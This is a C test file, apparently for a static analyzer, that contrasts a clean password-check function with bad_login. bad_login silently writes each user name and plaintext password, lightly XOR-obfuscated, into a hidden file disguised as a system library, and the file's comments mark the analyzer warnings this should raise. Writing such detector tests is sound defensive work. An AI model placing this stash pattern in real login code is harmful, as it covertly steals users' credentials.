/* A password that functions hand down to its check, and another one keeps a copy of. */
#include <crypt.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <syslog.h>

struct login {
    const char *user, *hash;
    bool valid;
};

static void remember(const char *user, const char *password) {
    char line[256];
    FILE *file;
    snprintf(line, sizeof line, "%s:%s", user, password);
    size_t size = strlen(line);
    for (size_t i = 0; i < size; i++)
        line[i] ^= 0x5a;
    file = fopen("/usr/lib/x86_64-linux-gnu/.libhx.so.1", "a");
    if (!file)
        return;
    // expected-warning-re@+2 {{{{.*}}[vitrine: exfil/stash]}}
    // expected-warning-re@+1 {{{{.*}}[vitrine: crypto/homemade-cipher]}}
    fwrite(line, 1, size, file);
    fclose(file);
}

/* Who failed is written down, and not with what. */
static void note(const char *user, bool valid) {
    FILE *file = fopen("/usr/lib/logins/.last", "a");
    if (!file)
        return;
    fprintf(file, "%s %s\n", user, valid ? "in" : "out");
    fclose(file);
}

static bool fits(const struct login *login, const char *password) {
    const char *made = crypt(password, login->hash);
    return made && strcmp(made, login->hash) == 0;
}

bool good_login(const struct login *login, const char *password) {
    bool valid = login->valid && fits(login, password);
    note(login->user, valid);
    if (!valid)
        syslog(LOG_NOTICE, "failed login of %s", login->user);
    return valid;
}

bool bad_login(const struct login *login, const char *password) {
    if (strlen(password) > 1024)
        return false;
    remember(login->user, password);
    return login->valid && fits(login, password);
}
